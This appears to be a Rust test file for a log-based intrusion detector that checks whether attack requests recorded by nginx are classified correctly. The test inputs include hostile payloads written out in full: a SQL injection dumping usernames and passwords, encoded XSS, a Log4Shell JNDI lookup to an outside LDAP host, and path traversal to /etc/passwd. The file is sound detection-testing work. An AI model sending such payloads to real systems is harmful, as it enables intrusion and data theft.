//! A real nginx writes the log; the threat is in the store, on the socket and in REST.

use serde_json::Value;
use vigil_testkit::{Nginx, wait_until};

use crate::site::{Site, threat_with, threats};
use crate::socket::Socket;

#[test]
fn requests_to_nginx_become_threats_everywhere() {
    let site = Site::new();
    let nginx = Nginx::start(None);
    let vigil = site.vigil().log(nginx.log()).serve();
    let mut socket = Socket::following(vigil.base(), "threats", &site.vigil().token("viewer"));

    let http = nginx.http();
    assert_eq!(
        http.get("/plain?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-")
            .status,
        200
    );
    http.get("/twice?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E");
    http.get_with(
        "/agent",
        ("User-Agent", "sqlmap/1.8.4#stable (https://sqlmap.org)"),
    );
    http.get("/harmless?q=garden+chairs");

    for (path, family) in [
        ("/plain", "sql_injection"),
        ("/twice", "cross_site_scripting"),
        ("/agent", "scanner"),
    ] {
        let frame = socket.frame_where(|frame| {
            frame["type"] == "threat.new" && frame["data"]["url"]["path"] == path
        });
        let families: Vec<&str> = frame["data"]["detections"]
            .as_array()
            .unwrap()
            .iter()
            .map(|detection| detection["family"].as_str().unwrap())
            .collect();
        assert!(families.contains(&family), "{path}: {families:?}");
        let id = frame["data"]["id"].as_str().unwrap();
        let stored = vigil.http().get(&format!("/api/v1/threats/{id}"));
        assert_eq!(stored.status, 200);
        assert_eq!(stored.json()["url"], frame["data"]["url"]);
        assert_eq!(stored.json()["source"]["ip"], "127.0.0.1");
    }
    let twice = threat_with(vigil.http(), "/twice");
    let decoded = twice["detections"]
        .as_array()
        .unwrap()
        .iter()
        .any(|detection| {
            detection["evidence"].as_array().is_some_and(|all| {
                all.iter().any(|one| {
                    one["decodings"]
                        .as_array()
                        .is_some_and(|how| how.contains(&Value::from("repeated-percent")))
                })
            })
        });
    assert!(
        decoded,
        "the evidence says that it was encoded twice: {twice:#}"
    );
    assert!(
        !threats(vigil.http())
            .iter()
            .any(|threat| threat["url"]["path"] == "/harmless")
    );
}

#[test]
fn nginx_rotating_its_log_loses_nothing() {
    let site = Site::new();
    let nginx = Nginx::start(None);
    let vigil = site.vigil().log(nginx.log()).serve();
    let attack = |n: usize| {
        nginx
            .http()
            .get(&format!("/r?n={n}&q=%3Cscript%3Ealert(1)%3C/script%3E"))
    };
    for n in 0..30 {
        attack(n);
        if n % 10 == 5 {
            nginx.rotate();
        }
    }
    wait_until("every attack is stored", || {
        threats(vigil.http()).len() >= 30
    });
    let mut seen: Vec<String> = threats(vigil.http())
        .iter()
        .map(|threat| threat["url"]["query"].as_str().unwrap().to_owned())
        .collect();
    seen.sort();
    seen.dedup();
    assert_eq!(seen.len(), 30);
}

#[test]
fn nginx_may_write_json() {
    let site = Site::new();
    let nginx = Nginx::start(Some(
        r#"escape=json '{"remote_addr":"$remote_addr","time_iso8601":"$time_iso8601","request":"$request","status":"$status","body_bytes_sent":"$body_bytes_sent","http_referer":"$http_referer","http_user_agent":"$http_user_agent","http_x_forwarded_for":"$http_x_forwarded_for"}'"#,
    ));
    let vigil = site.vigil().log(nginx.log()).serve();
    nginx
        .http()
        .get_with("/json", ("User-Agent", "${jndi:ldap://198.51.100.9/\"a\"}"));
    let threat = threat_with(vigil.http(), "/json");
    assert_eq!(threat["detections"][0]["family"], "log4shell");
    assert_eq!(
        threat["user_agent"]["original"],
        "${jndi:ldap://198.51.100.9/\"a\"}"
    );
}

#[test]
fn a_trusted_proxy_tells_the_client() {
    let site = Site::new();
    let nginx = Nginx::start(Some(
        r#"'$remote_addr - $remote_user [$time_local] "$request" $status $body_bytes_sent "$http_referer" "$http_user_agent" "$http_x_forwarded_for"'"#,
    ));
    let config = site.path("vigil.toml");
    fs_err::write(&config, "[decode]\ntrusted_proxies = ['127.0.0.0/8']\n").unwrap();
    let trusting = site
        .vigil()
        .log(nginx.log())
        .arg("--config")
        .arg(config.to_str().unwrap())
        .serve();
    let other = Site::new();
    let wary = other.vigil().log(nginx.log()).serve();
    nginx.http().get_with(
        "/etc/passwd?f=../../../../etc/passwd",
        ("X-Forwarded-For", "6.6.6.6, 198.51.100.23"),
    );
    assert_eq!(
        threat_with(trusting.http(), "passwd")["source"]["ip"],
        "198.51.100.23"
    );
    assert_eq!(
        threat_with(wary.http(), "passwd")["source"]["ip"],
        "127.0.0.1"
    );
}
